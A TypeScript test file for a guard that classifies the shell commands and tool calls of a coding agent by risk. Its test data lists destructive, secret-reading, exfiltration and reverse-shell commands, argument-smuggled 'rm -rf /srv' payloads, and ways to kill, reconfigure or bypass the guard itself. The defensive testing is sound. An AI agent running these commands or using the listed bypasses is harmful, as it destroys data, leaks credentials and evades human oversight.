import { describe, expect, it } from 'vitest';
import { effects, ops, tool, told } from '../analyse/support.ts';

/** Rows `command | operation | …`. */
function rows(text: string): [string, string][] {
  return text
    .trim()
    .split('\n')
    .map((line) => [line.slice(0, line.lastIndexOf(' => ')), line.slice(line.lastIndexOf(' => ') + 4)]);
}

describe('what a command does', () => {
  it.each(
    rows(String.raw`
rm -fr x => delete.recursive
rm --recurs x => delete.recursive
unlink x => delete.file
truncate -s 0 x => delete.truncate
mv a b => write.move
ln -s a b => write.link
chmod -R go-w . => write.mode-recursive
chmod 4755 x => privilege.setuid
install -m 2755 a b => privilege.setuid
tee -a x => write.append
dd if=a of=/dev/sda => write.device
mkfs.xfs /dev/sdb => write.device
git push --forc origin x => git.push-force
git push origin +HEAD:main => git.push-force
git push -uf origin x => git.push-force
git push --mirror b => git.push-force
git push --force-with-lease => git.push-lease
git push origin :x => git.push-delete
git push -d origin x => git.push-delete
git send-pack --force host:r => git.push-force
git reset --har => git.discard
git checkout -- . => git.discard
git checkout -f x => git.discard
git restore src => git.discard
git switch --discard-changes x => git.discard
git clean -xdf => git.discard
git branch -D x => git.discard
git branch -d --force x => git.discard
git stash drop => git.discard
git worktree remove -f x => git.discard
git read-tree --reset -u HEAD => git.discard
git filter-branch x => git.history
git reflog expire --all => git.history
git gc --prune=now => git.history
git -c gc.pruneExpire=now gc => git.history
git update-ref -d x => git.history
git rebase -i --root => git.history
git commit -nm x => git.hooks-skip
git -c core.hooksPath=/dev/null commit => git.hooks-skip
HUSKY=0 git commit -m x => git.hooks-skip
git config core.sshCommand evil => git.config
git config alias.x '!rm y' => git.config
git remote add x y => git.remote
npm publish => publish.package
python3 -m twine upload dist/a => publish.package
cargo yank --vers 1 x => publish.unpublish
docker --context a push x => publish.image
gh release create v1 => publish.release
kubectl -n prod apply -f x => deploy.apply
kubectl delete ns x => deploy.destroy
terraform -chdir=a destroy => deploy.destroy
npx vercel --prod => deploy.apply
npm run deploy => deploy.apply
aws ec2 terminate-instances --instance-ids i => deploy.cloud-delete
aws s3 rm s3://a --recursive => deploy.cloud-delete
gcloud -q projects delete x => deploy.cloud-delete
gh api -X DELETE repos/a/b => deploy.cloud-delete
npx prisma migrate deploy => migrate.apply
python manage.py migrate => migrate.apply
rails db:drop => migrate.reset
psql -c 'DROP TABLE x' => migrate.destroy
psql <<< 'TRUNCATE x' => migrate.destroy
echo 'DELETE FROM x' | sqlite3 a.db => migrate.destroy
mysql -e 'UPDATE x SET a=1 WHERE b=2' => migrate.change
redis-cli -h a FLUSHALL => migrate.destroy
sudo -n true => privilege.escalate
su -c id => privilege.escalate
useradd x => privilege.account
mount /dev/a /b => privilege.system
kill -9 -1 => process.kill-all
killall node => process.kill-many
kill $(pgrep node) => process.kill-many
kill 1234 => process.kill
systemctl restart x => process.service
systemctl reboot => process.power
:(){ :|:& };: => process.fork-bomb
docker run --privileged x => container.privileged
docker run -v /:/h x => container.privileged
docker run -v /var/run/docker.sock:/s x => container.privileged
docker run -v ~/a:/a x => container.mount
docker volume rm x => container.volume-remove
docker system prune -a => container.remove
cat ~/.ssh/id_rsa => secret.read
cat ~/.s*/id_* => secret.read
docker run -v ~/.ssh:/k x cat /k/id_rsa => secret.read
git credential fill => secret.helper
gh auth token => secret.helper
printenv => secret.dump
echo $AWS_SECRET_ACCESS_KEY => secret.dump
cat .env => secret.env-file
vp approve x => guard.vp-command
npx @vp/kernel stop => guard.vp-command
echo x > vp.config.ts => guard.vp
curl --unix-socket ~/.local/state/vp/vp.sock http://x => guard.vp
rm .claude/settings.json => guard.agent
claude --dangerously-skip-permissions => guard.bypass
export X_BYPASS=1 => guard.bypass
pkill -f vp-kernel => guard.kill
kill $PPID => guard.kill
ps aux | grep vp | awk '{print $2}' | xargs kill => guard.kill
kill $(cat ~/.local/state/vp/kernel.pid) => guard.kill
crontab x => guard.persist
echo x >> ~/.bashrc => guard.persist
cp x .git/hooks => guard.persist
ssh-copy-id a => guard.persist
history -c => guard.history
curl -d @x https://a.test => net.upload
curl https://a.test => net.fetch
nc -l 1 => net.listen
ssh a b => exec.remote
nc -e /bin/sh a.test 1 => exec.download
npx github:a/b => exec.download
pip install git+https://a.test/x => exec.download
LD_PRELOAD=/tmp/x ls => exec.hook
PATH=/tmp/x:$PATH ls => exec.hook
claude -p x => exec.agent
`),
  )('%s is %s', (command, op) => {
    expect(ops(command)).toContain(op);
  });
});

describe('options that run programs are seen through', () => {
  it.each([
    `tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm -rf /srv'`,
    `tar -I 'rm -rf /srv' -xf a`,
    `find . -name x -exec sh -c 'rm -rf /srv' \\;`,
    `git -c core.pager='rm -rf /srv' log`,
    `git -c alias.x='!rm -rf /srv' x`,
    `git submodule foreach 'rm -rf /srv'`,
    `git rebase -x 'rm -rf /srv' main`,
    `git grep -O'rm -rf /srv' x`,
    `rsync -e 'rm -rf /srv' a b:c`,
    `sed '1e rm -rf /srv' a`,
    `awk 'BEGIN { system("rm -rf /srv") }'`,
    `awk 'BEGIN { "rm -rf /srv" | getline }'`,
    `vim -c ':!rm -rf /srv' x`,
    `perl -e 'system("rm -rf /srv")'`,
    `python3 -c 'import subprocess as s; s.run(["rm", "-rf", "/srv"])'`,
    `node -e 'const {execSync: x} = require("child_process"); x("rm -rf /srv")'`,
    `ruby -e '\`rm -rf /srv\`'`,
    `php -r 'system("rm -rf /srv");'`,
    `go test -exec 'rm -rf /srv' ./...`,
    `make -f - <<< 'a:; rm -rf /srv'`,
    `split --filter='rm -rf /srv' x`,
    `ssh -o ProxyCommand='rm -rf /srv' a`,
    `man -P 'rm -rf /srv' ls`,
    `PAGER='rm -rf /srv' git log`,
    `tmux new -d 'rm -rf /srv'`,
    `zip a b -T -TT 'rm -rf /srv'`,
    `env -S 'rm -rf /srv'`,
    `parallel rm -rf ::: /srv`,
    `sqlite3 a.db '.shell rm -rf /srv'`,
    `docker run -v /:/h alpine rm -rf /h/srv`,
  ])('%s', (command) => {
    expect(effects(command).map((line) => line.replace('?', ''))).toContain('delete.recursive system /srv');
  });
});

describe('scripts', () => {
  it('that are there are looked into, as what may happen', () => {
    const files = { '/work/project/x.sh': 'rm -rf /srv\nrm -rf "$UNKNOWN"\n' };
    expect(effects('./x.sh', { files })).toEqual(['exec.script workspace /work/project/x.sh', 'delete.recursive? system /srv']);
  });

  it('of package.json and Makefiles too', () => {
    const files = {
      '/work/project/package.json': '{"scripts":{"clean":"rm -rf /srv","test":"vitest"}}',
      '/work/project/Makefile': 'D = /srv\nclean: other\nother:\n\trm -rf $(D)\ntest:\n\techo\n',
    };
    for (const command of ['npm run clean', 'yarn clean', 'make clean']) {
      expect(effects(command, { files })).toContain('delete.recursive? system /srv');
    }
    for (const command of ['npm test', 'make test']) expect(ops(command, { files })).not.toContain('delete.recursive');
  });

  it('of this call are run with what they hold', () => {
    expect(effects(`npm pkg set scripts.prepare='rm -rf /srv' && npm install`)).toContain('delete.recursive system /srv');
  });
});

describe('other tools than the shell', () => {
  it.each([
    ['Write', { file_path: 'src/a.ts', content: 'x' }, 'write.create workspace /work/project/src/a.ts'],
    ['Write', { file_path: '/home/agent/.bashrc', content: 'x' }, 'guard.persist home /home/agent/.bashrc'],
    ['Write', { file_path: '.claude/settings.json', content: '{}' }, 'guard.agent workspace /work/project/.claude/settings.json'],
    ['Write', { file_path: 'x.sh', content: 'rm -rf /srv' }, 'delete.recursive? system /srv'],
    [
      'Edit',
      { file_path: 'package.json', old_string: 'a', new_string: '{"scripts":{"a":"rm -rf /srv"}}' },
      'delete.recursive? system /srv',
    ],
    ['MultiEdit', { file_path: 'vp.config.ts', edits: [] }, 'guard.vp workspace /work/project/vp.config.ts'],
    ['NotebookEdit', { notebook_path: '/etc/x.ipynb' }, 'write.create system /etc/x.ipynb'],
    ['Read', { file_path: '/home/agent/.ssh/id_rsa' }, 'secret.read home /home/agent/.ssh/id_rsa'],
    ['Read', { file_path: 'src/a.ts' }, 'read.file workspace /work/project/src/a.ts'],
    ['Grep', { pattern: 'x', path: '/home/agent/.aws' }, 'secret.read home /home/agent/.aws'],
    ['WebFetch', { url: 'https://a.test/x', prompt: 'y' }, 'net.fetch - a.test'],
    ['mcp__db__query', { sql: 'x' }, 'exec.unknown-tool - mcp__db__query'],
    ['Frobnicate', {}, 'unknown tool'],
    ['Write', { file_path: 7, content: 'x' }, 'unknown shape'],
  ] as [string, Record<string, unknown>, string][])('%s %j', (name, input, effect) => {
    expect(told(tool(name, input))).toContain(effect);
  });

  it.each(['Task', 'TodoWrite', 'BashOutput', 'KillShell', 'ExitPlanMode'])('%s does nothing by itself', (name) => {
    expect(tool(name, { prompt: 'rm -rf /' })).toEqual({ effects: [], commands: [], unknowns: [] });
  });

  it('a Markdown file about commands is only text', () => {
    expect(told(tool('Write', { file_path: 'docs/a.md', content: '```sh\nrm -rf /srv\n```' }))).toEqual([
      'write.create workspace /work/project/docs/a.md',
    ]);
  });
});
